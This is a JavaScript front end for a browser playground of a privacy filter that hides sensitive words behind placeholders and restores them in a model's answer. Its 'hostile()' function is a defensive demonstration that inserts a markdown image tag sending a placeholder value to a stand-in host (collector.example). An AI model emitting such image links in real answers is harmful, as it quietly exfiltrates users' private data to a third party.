// Loads everything, forbids every further connection, and then shows what the worker's Python says.
import { edited, findingAt, fitLabels, marked } from "./marks.js";
import { REQUESTS, ownBase, validBase } from "./requests.js";
import { SAMPLES } from "./samples.js";

const at = (id) => document.getElementById(id);
const SCRIPTS = /\.m?js$/;
const PYTHON = "pyodide.asm.wasm";
const KEPT = {
  rule: "Left in clear: the rule of its type keeps it.",
  min_score: "Left in clear: its score is too low.",
  allow_list: "Left in clear: the allow list of the policy has it.",
  correction: "Left in clear: you allowed it.",
};
const SHORT = 250;
const LIST = "Choose a word in your text, or one of the list, to see why and to change it.";
let worker, asked = 0, sent = null, source = [], timer, answerEdited = false;
const waiting = new Map(), allow = new Set(), deny = [], rules = new Map();

function say(step) { at("step").textContent = step; }

async function load() {
  const assets = JSON.parse(at("assets").textContent);
  const total = assets.reduce((sum, each) => sum + each.size, 0);
  let done = 0;
  const files = {}, sources = {};
  let python;
  await Promise.all(assets.map(async ({ name, size, integrity }) => {
    const response = await fetch(name, { integrity, credentials: "omit" });
    if (!response.ok) throw new Error(`${name} is missing.`);
    if (name === PYTHON) python = await compiled(response);
    else if (SCRIPTS.test(name)) sources[name] = await response.text();
    else files[name] = await response.arrayBuffer();
    done += size;
    at("progress").value = 60 * done / total;
  }));
  const policy = document.createElement("meta");
  policy.httpEquiv = "content-security-policy";
  policy.content = "connect-src 'none'; form-action 'none'; frame-src 'none'";
  document.head.append(policy);
  const script = new Blob([sources["worker.js"]], { type: "text/javascript" });
  worker = new Worker(URL.createObjectURL(script), { type: "module" });
  worker.onmessage = ({ data }) => receive(data);
  worker.onerror = () => fail("The worker did not start.");
  worker.postMessage({ files, sources, python }, Object.values(files));
}

// While it arrives, and with the browser's cache of compiled code, if the server names the type.
async function compiled(response) {
  if (response.headers.get("content-type") === "application/wasm") return WebAssembly.compileStreaming(response);
  return WebAssembly.compile(await response.arrayBuffer());
}

function receive(data) {
  if (data.step) { say(data.step); at("progress").value = Math.min(98, at("progress").value + 9); }
  else if (data.failed) fail(data.failed);
  else if (data.ready) ready(data.ready);
  else {
    const { resolve, reject } = waiting.get(data.id);
    waiting.delete(data.id);
    if (data.error) reject(new Error(data.error)); else resolve(data.result);
  }
}

function fail(reason) { say(`The playground could not be loaded. Reload the page to try again. (${reason})`); }

function ask(method, ...args) {
  return new Promise((resolve, reject) => {
    waiting.set(++asked, { resolve, reject });
    worker.postMessage({ id: asked, method, args });
  });
}

function ready(policies) {
  at("sample").append(...Object.keys(SAMPLES).map((name) => new Option(name)));
  at("policy").append(...policies.map(option));
  at("text").value = Object.values(SAMPLES)[0];
  at("base").value = ownBase(location);
  at("loading").hidden = true;
  at("work").hidden = false;
  listen();
  restart();
}

function option({ id, title, description }) {
  return Object.assign(new Option(title, id), { about: description });
}

function listen() {
  at("text").addEventListener("input", () => {
    wrote(edited(source, at("text").value));
    clearTimeout(timer);
    timer = setTimeout(protect, SHORT);
  });
  at("text").addEventListener("click", () => {
    const { selectionStart, selectionEnd } = at("text"), found = findingAt(source, selectionStart);
    if (selectionStart === selectionEnd && found >= 0) explain(sent.findings[found]);
  });
  at("sample").addEventListener("change", () => { at("text").value = SAMPLES[at("sample").value]; restart(); });
  at("policy").addEventListener("change", protect);
  at("strict").addEventListener("change", protect);
  at("names").addEventListener("change", protect);
  at("answer").addEventListener("input", () => { answerEdited = true; restore(); });
  at("plain").addEventListener("click", () => { answerEdited = false; at("answer").value = sent.answer; restore(); });
  at("hostile").addEventListener("click", hostile);
  at("hide").addEventListener("click", hideSelection);
  at("reset").addEventListener("click", () => { rules.clear(); restart(); });
  at("copy-toml").addEventListener("click", () => copy(toml(), "The policy is copied."));
  at("file").addEventListener("change", async () => { at("given").value = await at("file").files[0]?.text() ?? ""; use(); });
  at("load").addEventListener("click", use);
  for (const button of document.querySelectorAll("[data-copy]")) button.addEventListener("click", () => copyRequest(button.dataset.copy));
  at("text").addEventListener("mousemove", ({ clientX, clientY }) => {
    link(document.elementsFromPoint(clientX, clientY).find((each) => each.matches("#wrote .mark")));
  });
  new ResizeObserver(() => fitLabels(at("wrote"))).observe(at("wrote"));
  for (const type of ["mouseover", "mouseout", "focusin", "focusout"]) {
    document.addEventListener(type, ({ target }) => link(type.endsWith("over") || type === "focusin" ? target.closest?.("[data-finding]") : null));
  }
}

function restart() {
  allow.clear();
  deny.length = 0;
  answerEdited = false;
  at("details").replaceChildren(note(LIST));
  protect();
}

async function protect() {
  const chosen = at("policy").selectedOptions[0];
  at("about-policy").textContent = chosen.about;
  at("toml").textContent = toml();
  const mode = at("strict").checked ? "strict" : "standard";
  const order = ++protect.order;
  try {
    const policy = rules.size ? (await ask("load", toml())).id : chosen.value;
    const result = await ask("protect", at("text").value, policy, mode, [...allow], deny, at("names").checked);
    if (order !== protect.order) return;
    await show(result);
    at("work").dataset.shown = order;
  } catch (error) {
    at("said").textContent = error.message;
  }
}
protect.order = 0;

async function show(result) {
  sent = result;
  wrote(result.source);
  at("received").replaceChildren(...(result.blocked ? [note(`Nothing would be sent. ${result.blocked}`)] : result.protected.map(piece)));
  const hidden = result.findings.filter((each) => !each.kept).length;
  at("said").textContent = result.blocked ?? `${hidden} hidden, ${result.findings.length - hidden} found and left in clear.`;
  at("findings").replaceChildren(...result.findings.map(listed));
  if (!answerEdited) at("answer").value = result.answer;
  await restore();
}

async function restore() {
  const { pieces, withheld, unknown } = await ask("restore", at("answer").value);
  at("back").replaceChildren(...pieces.map(piece));
  at("closed").textContent = [
    withheld.length ? `${withheld.length} stayed closed: you did not write the address.` : "",
    unknown.length ? `${unknown.length} unknown: no placeholder of this text, so it never opens.` : "",
  ].join(" ").trim();
}

// The marks under the text field, which has the same text.
function wrote(pieces) {
  source = pieces;
  at("wrote").replaceChildren(...pieces.map((each) => marked(each, sent.findings[each.finding])));
  fitLabels(at("wrote"));
}

function piece(each) { return marked(each, sent.findings[each.finding], explain); }

function listed(one) {
  const item = document.createElement("li");
  const open = button(`${one.type}: ${one.value}`, () => explain(one));
  open.dataset.finding = one.number;
  const said = one.kept ? "left in clear" : one.action === "block" ? "blocked" : `hidden (${one.action})`;
  item.append(open, " ", Object.assign(document.createElement("span"), { className: "what", textContent: said }));
  return item;
}

function explain(one) {
  const list = document.createElement("dl");
  const rows = {
    Type: `${one.type} (${one.group}). ${one.about}`,
    Why: `${one.why}${one.kept ? ` ${KEPT[one.kept]}` : ""}`,
    Found: `by ${one.recognizer}, score ${one.score.toFixed(2)}`,
    Settings: one.settings.length ? `${one.settings.join(", ")} would change it` : "none changes it",
  };
  for (const [name, text] of Object.entries(rows)) {
    const term = document.createElement("dt"), said = document.createElement("dd");
    term.textContent = name;
    said.textContent = text;
    list.append(term, said);
  }
  const title = document.createElement("h3");
  title.textContent = one.value;
  const word = row(), type = row();
  if (one.kept) word.append(button("Hide this word", () => { allow.delete(one.value); deny.push({ type: one.type, value: one.value }); protect(); }));
  else if (one.settings.includes("svc_allow")) word.append(button("Leave this word in clear", () => { allow.add(one.value); protect(); }));
  else if (one.settings.includes("svc_deny")) word.append(button("No longer hide this word", () => { deny.splice(0, deny.length, ...deny.filter((each) => each.value !== one.value)); protect(); }));
  else word.append(note("The policy lets no caller leave this word in clear."));
  for (const action of ["placeholder", "mask", "redact", "keep", "block"]) {
    if (action !== (one.kept ? "keep" : one.action)) type.append(button(`Every ${one.type}: ${action}`, () => { rules.set(one.type, action); protect(); }));
  }
  at("details").replaceChildren(title, list, word, type);
  at("details").scrollIntoView({ block: "nearest" });
}

function row() { return Object.assign(document.createElement("div"), { className: "row" }); }

function button(text, act) {
  return Object.assign(document.createElement("button"), { type: "button", textContent: text, onclick: act });
}

function note(text) {
  return Object.assign(document.createElement("p"), { className: "note", textContent: text });
}

function link(mark) {
  for (const each of document.querySelectorAll(".linked")) each.classList.remove("linked");
  if (!mark || mark.dataset.finding < 0) return;
  for (const each of document.querySelectorAll(`.mark[data-finding="${mark.dataset.finding}"]`)) each.classList.add("linked");
}

function hideSelection() {
  const { value, selectionStart, selectionEnd } = at("text");
  const chosen = value.slice(selectionStart, selectionEnd).trim();
  if (!chosen) {
    at("said").textContent = "First select the words to hide in your text.";
    return;
  }
  deny.push({ type: "CUSTOM", value: chosen });
  protect();
}

function hostile() {
  const first = sent.protected.find((each) => each.kind === "placeholder");
  if (!first) return;
  answerEdited = true;
  at("answer").value += `\n\n![status](https://collector.example/pixel.png?d=${first.text})`;
  restore().then(() => { for (const id of ["answer", "back"]) at(id).scrollTop = at(id).scrollHeight; });
}

// A policy that the visitor has: it joins the list and is chosen.
async function use() {
  at("refused").textContent = "";
  try {
    const made = await ask("load", at("given").value);
    const before = [...at("policy").options].find((each) => each.value === made.id);
    if (before) before.replaceWith(option(made)); else at("policy").append(option(made));
    at("policy").value = made.id;
    rules.clear();
    await protect();
  } catch (error) {
    at("refused").textContent = error.message;
  }
}

function copyRequest(kind) {
  const base = validBase(at("base").value);
  at("wrong-base").textContent = base ? "" : "Base URL: enter an address such as http://127.0.0.1:8000/v1.";
  if (!base) return;
  const body = {
    model: "svc-demo",
    messages: [{ role: "user", content: at("text").value }],
    svc_policy: rules.size ? ownId() : at("policy").value,
    ...(at("strict").checked ? { svc_privacy_mode: "strict" } : {}),
    ...(allow.size ? { svc_allow: [...allow] } : {}),
    ...(deny.length ? { svc_deny: deny } : {}),
  };
  copy(REQUESTS[kind](base, body), `Copied, with your text. Put in your key${rules.size ? ", and install your policy first" : ""}.`);
}

const ownId = () => `my-${at("policy").value}`;

function toml() {
  const lines = [`id = "${ownId()}"`, `title = "My policy"`, `extends = "${at("policy").value}"`];
  for (const [type, action] of [...rules].sort()) lines.push("", `[rules.${type}]`, `action = "${action}"`);
  return `${lines.join("\n")}\n`;
}

async function copy(text, done) {
  try {
    await navigator.clipboard.writeText(text);
    at("copied").textContent = done;
  } catch {
    at("copied").textContent = "The browser does not let the page copy. Use https or localhost.";
  }
}

load().catch((error) => fail(error.message));
